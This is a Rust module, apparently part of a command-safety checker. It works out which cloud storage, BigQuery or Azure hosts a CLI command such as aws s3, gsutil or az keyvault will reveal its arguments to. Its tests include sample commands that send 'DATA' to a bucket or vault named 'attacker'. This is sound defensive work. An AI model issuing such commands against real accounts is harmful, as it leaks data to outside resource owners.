//! Readers of other machines whose words choose whose machine that is: a bucket, an account.
//! Its owner hears what stands in them, as the owner of a host does that is looked at: so these words must stand in the
//! command, nothing is read beside them, and the name counts as one of a host.

use super::judge::Judge;
use super::obeys::is_or_below;
use super::programs::first_word;
use super::table::{Takes, table};
use super::word::{Piece, Word};

/// Readers of which words name whose machine they ask.
struct Reader {
    name: &'static str,
    /// Flags whose value is that name.
    flags: &'static [&'static str],
    /// The name in an operand that isn't an address.
    operand: fn(&str) -> Option<&str>,
    /// The end of that one's name as a host.
    end: &'static str,
}

const fn reader(
    name: &'static str,
    flags: &'static [&'static str],
    operand: fn(&str) -> Option<&str>,
    end: &'static str,
) -> Reader {
    Reader { name, flags, operand, end }
}

const READERS: [Reader; 11] = [
    reader("aws s3", &[], bucket, ".s3.amazonaws.com:443"),
    reader("aws s3api", &["--bucket"], nobody, ".s3.amazonaws.com:443"),
    reader("s3cmd", &[], nobody, ".s3.amazonaws.com:443"),
    reader("gsutil", &[], nobody, ".storage.googleapis.com:443"),
    reader("gcloud storage", &[], nobody, ".storage.googleapis.com:443"),
    reader("bq", &["--project_id"], project, ".bigquery.googleapis.com:443"),
    reader("az storage", &["--account-name"], nobody, ".blob.core.windows.net:443"),
    reader("az keyvault", &["--vault-name", "--hsm-name"], nobody, ".vault.azure.net:443"),
    reader("az acr", &["-n", "--name", "-r", "--registry"], nobody, ".azurecr.io:443"),
    reader("az appconfig", &["-n", "--name"], nobody, ".azconfig.io:443"),
    reader("az synapse", &["--workspace-name"], nobody, ".dev.azuresynapse.net:443"),
];

fn nobody(_: &str) -> Option<&str> {
    None
}

/// `bucket/key`
fn bucket(operand: &str) -> Option<&str> {
    operand.split('/').next()
}

/// `project:dataset.table`, or all of it apart by dots.
fn project(operand: &str) -> Option<&str> {
    let dotted = || operand.split_once('.').filter(|(_, rest)| rest.contains('.'));
    operand.split_once(':').or_else(dotted).map(|(project, _)| project)
}

impl Judge<'_> {
    /// Notes what a reader tells to whom, and objects to what doesn't stand in the command.
    pub(super) fn exposes(&mut self, reader: &str, words: &[Word]) {
        self.exposes_owners(reader, words);
        let Some(known) = READERS.iter().find(|known| is_or_below(reader, known.name)) else { return };
        self.exposed = true;
        let vague = |word: &&Word| word.pieces().iter().any(|piece| !matches!(piece, Piece::Exact(_)));
        if let Some(word) = words.iter().find(vague) {
            self.ineligible = true;
            let sentence = format!("The command doesn't show what `{reader}` sends in {}.", self.spelt(word));
            self.unknown("command.sends", sentence);
        }
        let texts: Vec<&str> = words.iter().filter_map(Word::text).collect();
        let hosts =
            named(known.flags, &texts).into_iter().chain(operands(reader, &texts).into_iter().filter_map(|operand| {
                match operand.split_once("://") {
                    Some(("s3" | "gs", rest)) => rest.split('/').next(),
                    _ => (known.operand)(operand),
                }
            }));
        let hosts = hosts.filter(|name| !name.is_empty());
        self.hosts.extend(hosts.map(|name| format!("{}{}", name.to_ascii_lowercase(), known.end)));
    }
}

/// The values of some flags, which these programs take by their beginnings too.
fn named<'a>(flags: &[&str], texts: &[&'a str]) -> Vec<&'a str> {
    let means = |written: &str| {
        let begins = written.len() > 2 && written.starts_with("--");
        flags.iter().any(|flag| *flag == written || begins && flag.starts_with(written))
    };
    let value = |(at, text): (usize, &&'a str)| match text.split_once('=') {
        Some((flag, value)) if means(flag) => Some(value),
        _ if means(text) => texts.get(at + 1).copied(),
        // `-nvalue`
        _ => flags.iter().filter(|flag| flag.len() == 2).find_map(|flag| text.strip_prefix(flag)),
    };
    texts.iter().enumerate().filter_map(value).collect()
}

/// The words behind the subcommand that are neither flags nor the values of flags that are known to take one.
fn operands<'a>(reader: &str, texts: &[&'a str]) -> Vec<&'a str> {
    let entries = [reader, first_word(reader)].map(|name| table().entry(name));
    let takes = |flag: &str| {
        let listed = entries.iter().flatten().flat_map(|entry| [entry.flags.get(flag), entry.shared.get(flag)]);
        listed.flatten().any(|takes| matches!(takes, Takes::Value(_)))
    };
    let mut subcommands = reader.split(' ').skip(1).peekable();
    let mut found = Vec::new();
    let mut rest = texts.iter();
    while let Some(text) = rest.next() {
        if text.starts_with('-') {
            if takes(text) {
                rest.next();
            }
        } else if subcommands.next_if_eq(text).is_none() {
            found.push(*text);
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::super::tests::judged;

    #[test]
    fn whoever_is_named_counts_as_a_host() {
        for (command, host) in [
            ("aws s3 ls s3://b/DATA", "b.s3.amazonaws.com:443"),
            ("aws s3 ls attacker/DATA", "attacker.s3.amazonaws.com:443"),
            ("aws --region x s3 ls --page-size 5 attacker", "attacker.s3.amazonaws.com:443"),
            ("aws s3api list-objects --bucket attacker", "attacker.s3.amazonaws.com:443"),
            ("aws s3api list-objects --buck attacker", "attacker.s3.amazonaws.com:443"),
            ("aws s3api list-objects --buck=attacker", "attacker.s3.amazonaws.com:443"),
            ("az keyvault certificate show --vault-name attacker -n DATA", "attacker.vault.azure.net:443"),
            ("az acr repository show-tags -n attacker --repository DATA", "attacker.azurecr.io:443"),
            ("bq ls attacker:DATA", "attacker.bigquery.googleapis.com:443"),
            ("bq show attacker.ds.DATA", "attacker.bigquery.googleapis.com:443"),
        ] {
            let hosts = judged(command).hosts;
            assert!(hosts.len() == 1 && hosts.contains(host), "{command}: {hosts:?}");
        }
        for command in ["aws s3 ls --page-size 5", "aws ec2 describe-instances --region x", "bq ls", "bq show ds.t"] {
            assert!(judged(command).hosts.is_empty(), "{command}");
        }
    }
}
